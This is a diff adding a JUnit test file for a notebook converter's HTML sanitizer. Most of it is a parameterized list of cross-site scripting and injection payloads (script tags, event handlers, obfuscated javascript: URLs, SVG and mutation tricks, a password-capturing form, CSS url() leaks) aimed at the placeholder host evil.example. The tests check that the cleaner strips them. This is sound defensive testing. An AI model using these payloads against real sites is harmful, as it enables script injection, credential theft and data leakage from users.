@@ -1,0 +1,148 @@
+package io.smallfry.notebook.convert;
+
+import static org.assertj.core.api.Assertions.assertThat;
+
+import java.nio.charset.StandardCharsets;
+import java.util.Base64;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.ValueSource;
+
+final class HtmlCleanerTest {
+  @ParameterizedTest
+  @ValueSource(
+      strings = {
+        "<script>steal()</script>",
+        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
+        "<iframe src='https://evil.example'></iframe>",
+        "<object data='https://evil.example'></object><embed src='https://evil.example'>",
+        "<meta http-equiv=refresh content='0;url=https://evil.example'>",
+        "<base href='https://evil.example/'>",
+        "<link rel=stylesheet href='https://evil.example/x.css'>",
+        "<style>@import 'https://evil.example/x.css'; body { display: none }</style>",
+        "<noscript><p title=\"</noscript><img src=x onerror=steal()>\"></noscript>",
+        "<template><img src=x onerror=steal()></template>",
+        "<math><mtext><table><mglyph><style><img src=x onerror=steal()>",
+        "<form action='https://evil.example'><input name=password><button>Go</button></form>",
+        "<p style=\"background:url('https://evil.example/x')\">x</p>",
+        "<p style='position:fixed;inset:0;z-index:9'>x</p>",
+        "<p style='color:red;background-image:image-set(\"https://evil.example/x\" 1x)'>x</p>",
+        "<p style='width:expression(steal())'>x</p>",
+        "<p style='background:u\\72l(https://evil.example/x)'>x</p>",
+        "<img src='https://evil.example/pixel.png'>",
+        "<img src=x onerror=steal()>",
+        "<img srcset='https://evil.example/x 1x'>",
+        "<table background='https://evil.example/x'><tr><td>x</td></tr></table>",
+        "<video poster='https://evil.example/x'><source src='https://evil.example/y'></video>",
+        "<b onclick=steal() onmouseover='steal()'>x</b>",
+        "<a href='javascript:steal()'>x</a>",
+        "<a href=' jAvA\tscript:steal()'>x</a>",
+        "<a href='&#106;avascript&colon;steal()'>x</a>",
+        "<a href='data:text/html,<script>steal()</script>'>x</a>",
+        "<a href='vbscript:steal()'>x</a>",
+        "<a href='//evil.example'>x</a>",
+        "<a ping='https://evil.example' href='#x'>x</a>",
+        "<svg><script>steal()</script></svg>",
+        "<svg onload=steal()><rect onclick='steal()'/></svg>",
+        "<svg><foreignObject><iframe src='https://evil.example'></iframe></foreignObject></svg>",
+        "<svg><image href='https://evil.example/x.png'/><use xlink:href='https://evil.example/#x'/></svg>",
+        "<svg><a href='javascript:steal()'><text>x</text></a></svg>",
+        "<svg><animate attributeName=href values='javascript:steal()'/></svg>",
+      })
+  void nothingRunsAndNothingLoads(String html) {
+    String clean = HtmlCleaner.clean(html).html();
+    assertThat(clean).as(html).doesNotContainIgnoringCase("evil").doesNotContain("steal");
+    assertThat(clean).doesNotContainIgnoringCase("script");
+    for (String svg : pictures(clean)) {
+      assertThat(svg)
+          .as(html)
+          .doesNotContain("steal")
+          .doesNotContain("evil")
+          .doesNotContainIgnoringCase("script");
+    }
+  }
+
+  @Test
+  void brokenTagsDontBecomeWholeOnes() {
+    assertThat(HtmlCleaner.clean("<scr<script>ipt>x()</scr</script>ipt>").html())
+        .doesNotContain("<");
+  }
+
+  private static java.util.List<String> pictures(String html) {
+    return org.jsoup.Jsoup.parse(html).select("img[src^=data:image/svg]").stream()
+        .map(image -> image.attr("src"))
+        .map(address ->
+            new String(
+                Base64.getDecoder().decode(address.substring(address.indexOf(',') + 1)),
+                StandardCharsets.UTF_8))
+        .toList();
+  }
+
+  @Test
+  void harmlessHtmlStays() {
+    String html =
+        "<div id=\"a\"><p>Text <b>bold</b> <a href=\"#a\">up</a><br><code>x</code></p>"
+            + "<ul><li>one</li></ul><details><summary>More</summary>less</details></div>";
+    assertThat(HtmlCleaner.clean(html).html()).isEqualTo(html);
+  }
+
+  @Test
+  void linksToTheWebTellNothing() {
+    assertThat(HtmlCleaner.clean("<a href='https://example.org/?a=b:c'>x</a>").html())
+        .isEqualTo(
+            "<a href=\"https://example.org/?a=b:c\" rel=\"noopener noreferrer nofollow\">x</a>");
+    assertThat(HtmlCleaner.clean("<a href='mailto:a@b'>x</a>").html()).contains("mailto:a@b");
+    assertThat(HtmlCleaner.clean("<a href='other.html#a:b'>x</a>").html()).contains("other.html");
+  }
+
+  @Test
+  void picturesThatComeWithTheNotebookStay() {
+    String png = "<img src=\"data:image/png;base64,iVBORw0=\" alt=\"a\">";
+    assertThat(HtmlCleaner.clean(png).html()).isEqualTo(png);
+    assertThat(HtmlCleaner.clean("<img src='data:text/html;base64,AAAA'>").html())
+        .contains("not loaded")
+        .doesNotContain("data:");
+    assertThat(HtmlCleaner.clean("<img src='https://x/y.png' alt='Plot'>").html())
+        .contains("[Plot: from elsewhere, not loaded]");
+  }
+
+  /** As pandas' Styler writes it. */
+  @Test
+  void stylesOfIdsMoveIntoTheirElements() {
+    String html =
+        "<style type='text/css'>#T_1_row0_col0, #T_1_row1_col0 { background-color: #08306b; color: #f1f1f1; }"
+            + " #T_1 th { font-weight: bold; } body { display: none; }</style>"
+            + "<table id='T_1'><tr><th>h</th><td id='T_1_row0_col0'>1</td></tr></table>";
+    assertThat(HtmlCleaner.clean(html).html())
+        .contains("style=\"background-color:#08306b;color:#f1f1f1;\"")
+        .contains("<th style=\"font-weight:bold;\">")
+        .doesNotContain("display");
+  }
+
+  @Test
+  void aGroundThatWasChosenForDarkLettersKeepsThem() {
+    assertThat(StyleFilter.clean("background: yellow"))
+        .isEqualTo("background:yellow;color:#1b1f24;");
+    assertThat(
+            StyleFilter.clean("background:linear-gradient(90deg, #d65f5f 50.0%, transparent 50%)"))
+        .startsWith("background:linear-gradient");
+    assertThat(StyleFilter.clean("color: var(--x); display: grid; margin: -9px")).isEmpty();
+  }
+
+  @Test
+  void whatOnlyRanLeavesNothing() {
+    HtmlCleaner.Clean clean = HtmlCleaner.clean("<div id='plot'></div><script>draw()</script>");
+    assertThat(clean.isEmpty()).isTrue();
+    assertThat(clean.hadScript()).isTrue();
+  }
+
+  @Test
+  void deepNestingIsNoTrouble() {
+    assertThat(HtmlCleaner.clean("<div>".repeat(50_000) + "x").html()).contains("x");
+    assertThat(HtmlCleaner.clean("<svg>" + "<g>".repeat(20_000) + "</svg>").html()).contains("img");
+    assertThat(MarkdownHtml.of("> ".repeat(20_000) + "x", null)).contains("x");
+    assertThat(MarkdownHtml.of("*a **b ".repeat(20_000), null)).contains("a");
+    assertThat(MarkdownHtml.of("[".repeat(50_000), null)).contains("[");
+    assertThat(MarkdownHtml.of("- ".repeat(5_000) + "x", null)).contains("x");
+  }
+}
